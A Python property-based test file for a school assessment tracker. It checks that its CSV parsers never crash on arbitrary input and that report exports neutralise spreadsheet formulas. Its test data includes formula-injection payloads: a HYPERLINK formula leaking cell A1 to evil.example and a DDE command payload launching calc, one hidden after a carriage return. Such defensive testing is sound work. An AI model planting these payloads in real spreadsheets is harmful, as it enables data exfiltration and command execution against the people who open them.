"""Bad input, property-based (issue 5, part 6): the parsers the import and the forms share answer any
text with a value or their own clear error, never a crash; exports neutralise formulas.

The ladder (parse_level), age-equivalent and UPN parsers already have "any text" properties in
test_ladder.py, test_ages.py and test_upn.py; these add what was missing: every framework's
parser, the CSV contract's other cell parsers, and the export neutraliser.
"""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from assessments.ages import AgeEquivalentError, format_age_equivalent, parse_age_equivalent
from assessments.ladder import FRAMEWORKS, LadderError, parse_result
from pupils.upn import UpnError, validate_upn
from sencotrack.csvsafe import neutralise
from sencotrack.parsing import (
    ParseError,
    format_academic_year,
    normalise_header,
    parse_academic_year,
    parse_bool,
    parse_date,
    parse_term,
)

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = st.sampled_from(
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+2", "+44 7700 900123", "-2+3", "@SUM(A1:A2)",
     "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
)
# Text as it arrives from a spreadsheet: any characters, including control characters and formulas.
ANY_TEXT = st.one_of(st.text(), FORMULAS, st.text(alphabet=st.characters(codec="cp1252")))


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(sorted(FRAMEWORKS)), ANY_TEXT)
def test_every_frameworks_result_parser_answers_any_text_with_a_level_or_a_ladder_error(framework, text):
    try:
        level = parse_result(framework, text)
    except LadderError as exc:
        assert str(exc)  # a message for the person
        return
    assert parse_result(framework, level.code) == level  # a canonical code reads back as itself


@given(st.text(max_size=30), ANY_TEXT)
def test_an_unknown_framework_is_a_ladder_error_not_a_crash(framework, text):
    if framework in FRAMEWORKS:
        return
    try:
        parse_result(framework, text)
    except LadderError:
        return
    raise AssertionError("an unknown framework parsed")


@settings(max_examples=300, deadline=None)
@given(ANY_TEXT)
@example("31/02/2025")
@example("2025-13-01")
@example("\u0661\u0669/\u0660\u0662/2025")  # Arabic-Indic digits are digits to str.isdigit, not to a date
def test_the_csv_cell_parsers_answer_any_text_with_a_value_or_a_parse_error(text):
    for parse in (parse_date, parse_bool, parse_academic_year, parse_term):
        try:
            parse(text)
        except ParseError as exc:
            assert str(exc)


@given(st.integers(1900, 2100), st.sampled_from(["/", "-"]))
def test_both_spellings_of_an_academic_year_read_the_same(year, separator):
    assert parse_academic_year(format_academic_year(year).replace("/", separator)) == year


@given(ANY_TEXT)
def test_normalising_a_header_never_fails_and_is_idempotent(text):
    once = normalise_header(text)
    assert normalise_header(once) == once


@given(ANY_TEXT)
def test_age_equivalents_and_upns_refuse_formula_cells_with_their_own_error(text):
    for parse, error in ((parse_age_equivalent, AgeEquivalentError), (validate_upn, UpnError)):
        try:
            value = parse(text)
        except error:
            continue
        if parse is parse_age_equivalent:
            assert parse_age_equivalent(format_age_equivalent(value)) == value


# --- Export neutralising ----------------------------------------------------------------------------


@given(ANY_TEXT)
def test_a_neutralised_cell_never_starts_a_formula_and_keeps_the_text(text):
    safe = neutralise(text)
    assert not safe.startswith(TRIGGERS)
    assert safe in (text, "'" + text)
    assert (safe == text) == (not text.startswith(TRIGGERS))


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.none(), st.booleans(), st.dates()))
def test_numbers_dates_and_blanks_are_left_alone(value):
    assert neutralise(value) == value


def report_csv(texts: list[str], numbers: list[float]) -> list[list[str]]:
    from reports.generators import Report

    frame = pd.DataFrame({"upn": texts, "va": numbers})
    return list(csv.reader(io.StringIO(Report(kind="value-added", frame=frame).to_csv(), newline="")))


# Cells without a bare carriage return: see the expected failure below for those.
NO_CR_TEXT = ANY_TEXT.filter(lambda text: "\r" not in text)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(NO_CR_TEXT, st.floats(-100, 100, allow_nan=False)), min_size=1, max_size=8))
def test_the_report_csv_neutralises_every_text_cell_and_keeps_numbers(rows):
    parsed = report_csv([t for t, _ in rows], [v for _, v in rows])
    assert parsed[0] == ["upn", "va"]
    assert len(parsed) == len(rows) + 1
    for (text, number), (cell, va) in zip(rows, parsed[1:], strict=True):
        assert not cell.startswith(TRIGGERS)
        assert cell in (text, "'" + text) or (text.strip() == "" and cell == "")
        assert va == f"{number:.2f}"  # numbers are never prefixed, even negative ones


# Report CSVs end rows with CRLF (RFC 4180), so the csv module quotes a bare \r or \n inside a cell.
def test_a_carriage_return_inside_a_report_cell_cannot_start_a_new_row_with_a_formula():
    cell = "Smith\r=cmd|' /C calc'!A0"  # no quote or comma in it, which would get it quoted anyway
    parsed = report_csv([cell], [1.0])
    assert parsed == [["upn", "va"], [cell, "1.00"]]
